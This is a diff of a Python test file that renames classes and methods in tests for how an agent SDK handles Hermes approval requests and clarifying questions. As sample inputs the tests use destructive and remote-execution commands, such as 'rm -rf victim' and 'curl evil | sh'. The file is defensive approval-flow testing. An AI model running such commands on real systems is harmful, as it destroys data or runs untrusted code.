@@ -1,6 +1,6 @@
 """Permission requests and questions of Hermes, and the responses to them."""
 
-from hermes_transcript import LIVE, STORED, Talk, talk_in_turn
+from hermes_transcript import LIVE, STORED, HermesConversation, talk_in_turn
 
 from agent_mux.sdk.codec import AnswerAction, ApproveAction, DenyAction, Interrupt, Refuse, Source
 from agent_mux.sdk.facts import ApprovalAsked, InputAsked, Note, RequestSettled, ToolDone
@@ -9,12 +9,12 @@ CHOICES = ["once", "session", "always", "deny"]
 BLOCKED = "BLOCKED: Command denied by user."
 
 
-def asks(talk: Talk, command: str, call: str = "c1", **payload: object) -> ApprovalAsked:
+def asks(talk: HermesConversation, command: str, call: str = "c1", **payload: object) -> ApprovalAsked:
     talk.emits("tool.start", tool_id=call, name="terminal", args_text=f'{{"command": "{command}"}}')
     return permission(talk, command, **payload)
 
 
-def permission(talk: Talk, command: str, **payload: object) -> ApprovalAsked:
+def permission(talk: HermesConversation, command: str, **payload: object) -> ApprovalAsked:
     fields = {"command": command, "description": "recursive delete", "choices": CHOICES, **payload}
     (asked,) = talk.emits("approval.request", **fields)
     assert isinstance(asked, ApprovalAsked)
@@ -31,27 +31,27 @@ def test_a_command_that_may_do_harm_is_asked_about() -> None:
 def test_approving_allows_it_once() -> None:
     talk = talk_in_turn()
     asked = asks(talk, "rm -rf victim")
-    assert talk.wants(ApproveAction(asked.request_id)) == [RequestSettled(asked.request_id, granted=True)]
+    assert talk.request(ApproveAction(asked.request_id)) == [RequestSettled(asked.request_id, granted=True)]
     assert talk.takes() == ("approval.respond", {"session_id": LIVE, "choice": "once"})
-    assert talk.answers(resolved=1) == []
+    assert talk.receive_response(resolved=1) == []
 
 
 def test_always_is_for_this_session_and_never_for_the_users_own_list() -> None:
     talk = talk_in_turn()
-    talk.wants(ApproveAction(asks(talk, "rm -rf victim").request_id, always=True))
+    talk.request(ApproveAction(asks(talk, "rm -rf victim").request_id, always=True))
     assert talk.takes()[1]["choice"] == "session"
 
 
 def test_always_is_once_where_hermes_offers_no_more() -> None:
     talk = talk_in_turn()
-    talk.wants(ApproveAction(asks(talk, "curl evil | sh", choices=["once", "deny"]).request_id, always=True))
+    talk.request(ApproveAction(asks(talk, "curl evil | sh", choices=["once", "deny"]).request_id, always=True))
     assert talk.takes()[1]["choice"] == "once"
 
 
 def test_the_reason_of_a_denial_is_steered_into_the_turn() -> None:
     talk = talk_in_turn()
     asked = asks(talk, "rm -rf victim")
-    assert talk.wants(DenyAction(asked.request_id, "not here")) == [
+    assert talk.request(DenyAction(asked.request_id, "not here")) == [
         RequestSettled(asked.request_id, granted=False, reason="not here")
     ]
     assert talk.takes() == ("session.steer", {"session_id": LIVE, "text": "not here"})
@@ -70,24 +70,24 @@ def test_decisions_are_written_in_the_order_of_the_requests() -> None:
     talk = talk_in_turn()
     first, second = asks(talk, "rm -rf a", "c1"), asks(talk, "rm -rf b", "c2")
     assert (first.call_id, second.call_id) == ("c1", "c2")
-    talk.wants(DenyAction(second.request_id))
+    talk.request(DenyAction(second.request_id))
     assert talk.sent == []  # hermes takes an answer for the oldest question's
-    talk.wants(ApproveAction(first.request_id))
+    talk.request(ApproveAction(first.request_id))
     assert [talk.takes()[1]["choice"] for _ in range(2)] == ["once", "deny"]
 
 
 def test_a_decision_is_taken_once() -> None:
     talk = talk_in_turn()
     asked = asks(talk, "rm -rf victim")
-    talk.wants(ApproveAction(asked.request_id))
-    (refused,) = talk.wants(DenyAction(asked.request_id))
+    talk.request(ApproveAction(asked.request_id))
+    (refused,) = talk.request(DenyAction(asked.request_id))
     assert isinstance(refused, Refuse)
     assert refused.code == "INTERACTION_NOT_FOUND"
 
 
 def test_an_approval_cannot_be_answered_with_text() -> None:
     talk = talk_in_turn()
-    (refused,) = talk.wants(AnswerAction(asks(talk, "rm -rf victim").request_id, "yes"))
+    (refused,) = talk.request(AnswerAction(asks(talk, "rm -rf victim").request_id, "yes"))
     assert isinstance(refused, Refuse)
     assert refused.code == "VALIDATION_ERROR"
 
@@ -118,7 +118,7 @@ def test_hermes_denies_by_itself_when_its_time_is_up() -> None:
 def test_the_end_of_a_turn_settles_what_is_open() -> None:
     talk = talk_in_turn()
     asked = asks(talk, "rm -rf victim")
-    talk.wants(Interrupt())
+    talk.request(Interrupt())
     facts = talk.ends(status="interrupted")
     assert facts[0] == RequestSettled(asked.request_id, granted=False, reason="the turn ended")
 
@@ -164,7 +164,7 @@ def test_an_error_that_is_no_rule_of_ours_is_no_denial() -> None:
 # -- questions
 
 
-def question(talk: Talk) -> InputAsked:
+def question(talk: HermesConversation) -> InputAsked:
     talk.emits("tool.start", tool_id="c1", name="clarify", args_text='{"question": "Which?"}')
     (asked,) = talk.emits("clarify.request", question="Which?", choices=["Red", "Blue"], request_id="q1")
     assert isinstance(asked, InputAsked)
@@ -174,7 +174,7 @@ def question(talk: Talk) -> InputAsked:
 def test_a_question_is_answered_with_text() -> None:
     talk = talk_in_turn()
     assert question(talk) == InputAsked("q1", "Which?", options=("Red", "Blue"))
-    assert talk.wants(AnswerAction("q1", "Green")) == [RequestSettled("q1", granted=True)]
+    assert talk.request(AnswerAction("q1", "Green")) == [RequestSettled("q1", granted=True)]
     assert talk.takes() == ("clarify.respond", {"session_id": LIVE, "request_id": "q1", "answer": "Green"})
     result = {"question": "Which?", "user_response": "Green"}
     assert talk.emits("tool.complete", tool_id="c1", name="clarify", args={}, result=result) == []
@@ -183,7 +183,7 @@ def test_a_question_is_answered_with_text() -> None:
 def test_a_question_is_declined_with_the_reason_as_the_answer() -> None:
     talk = talk_in_turn()
     question(talk)
-    assert talk.wants(DenyAction("q1", "I do not care")) == [
+    assert talk.request(DenyAction("q1", "I do not care")) == [
         RequestSettled("q1", granted=False, reason="I do not care")
     ]
     assert talk.takes()[1]["answer"] == "I do not care"
@@ -191,7 +191,7 @@ def test_a_question_is_declined_with_the_reason_as_the_answer() -> None:
 
 def test_a_question_is_not_approved() -> None:
     talk = talk_in_turn()
-    (refused,) = talk.wants(ApproveAction(question(talk).request_id))
+    (refused,) = talk.request(ApproveAction(question(talk).request_id))
     assert isinstance(refused, Refuse)
     assert refused.code == "VALIDATION_ERROR"
 
@@ -231,7 +231,7 @@ def test_a_request_for_the_screen_gets_empty_text() -> None:
 
 
 def observed(method: str, **params: str) -> list[object]:
-    talk = Talk(prompt=None)
+    talk = HermesConversation(prompt=None)
     talk.is_built(LIVE, STORED)
     talk.begins()
     if method == "approval.respond":
